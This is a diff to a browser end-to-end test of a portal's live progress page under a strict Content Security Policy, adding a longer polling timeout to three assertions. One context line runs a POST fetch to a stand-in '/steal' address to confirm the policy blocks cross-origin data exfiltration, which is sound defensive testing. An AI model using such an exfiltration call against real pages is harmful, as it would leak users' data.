@@ -18,6 +18,9 @@ import { launchChromium } from '../e2e/browser.ts';
 import { portalBrowserKit } from '../portal/portal-browser-kit.ts';
 import { people, startPortalWorld, type PortalWorld } from '../portal/portal-world.ts';
 
+
+/** How long a step may take on a busy machine: a bound on waiting, not a timing assertion. */
+const patiently = { timeout: 30_000, interval: 100 };
 describe('portal live progress under the strict CSP', () => {
   let world: PortalWorld;
   let browser: Browser;
@@ -57,14 +60,14 @@ describe('portal live progress under the strict CSP', () => {
     // Step 1: the run reaches its apply phase; the page follows without a reload.
     expect(await updateHeldRun(context.db, run.id, deps.owner, { phase: 'apply', total: 3, processed: 2, counts: '{"created":2}' })).toBe(true);
     // (Polled from the test: waitForFunction would evaluate a string in the page, which this CSP forbids.)
-    await expect.poll(() => page.textContent('#run-processed')).toBe('2');
+    await expect.poll(() => page.textContent('#run-processed'), patiently).toBe('2');
     expect(await page.textContent('#run-total')).toBe('3');
     expect(await page.textContent('#run-counts')).toContain('created 2');
     expect(await page.textContent('#run-live')).toBe('Run running, phase apply.');
     // Step 2: it completes.
     expect(await updateHeldRun(context.db, run.id, deps.owner, { status: 'completed', phase: 'done', processed: 3, counts: '{"created":3}', finishedAt: new Date().toISOString() })).toBe(true);
     await releaseRunSlot(context.db, organization.id, run.id);
-    await expect.poll(() => page.textContent('#run-status')).toBe('completed');
+    await expect.poll(() => page.textContent('#run-status'), patiently).toBe('completed');
     expect(await page.isVisible('#run-ended')).toBe(true);
     expect(await page.textContent('#run-live')).toBe('Run completed.');
     expect(await page.evaluate('window.__sameDocument')).toBe(true);
@@ -76,7 +79,7 @@ describe('portal live progress under the strict CSP', () => {
     await page.evaluate(`window.__loaded = false; const s = document.createElement('script'); s.src = '${liveProgressPath}'; s.onload = () => { window.__loaded = true; }; document.body.appendChild(s);`);
     // A script may not reach another origin.
     expect(await page.evaluate<string>(`fetch('https://203.0.113.9/steal', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused')`)).toBe('refused');
-    await expect.poll(async () => (await violations(page)).length).toBeGreaterThanOrEqual(3);
+    await expect.poll(async () => (await violations(page)).length, patiently).toBeGreaterThanOrEqual(3);
     expect(new Set(await violations(page))).toEqual(new Set(['script-src-elem', 'connect-src']));
     expect(await page.evaluate('window.__loaded')).toBe(false);
 
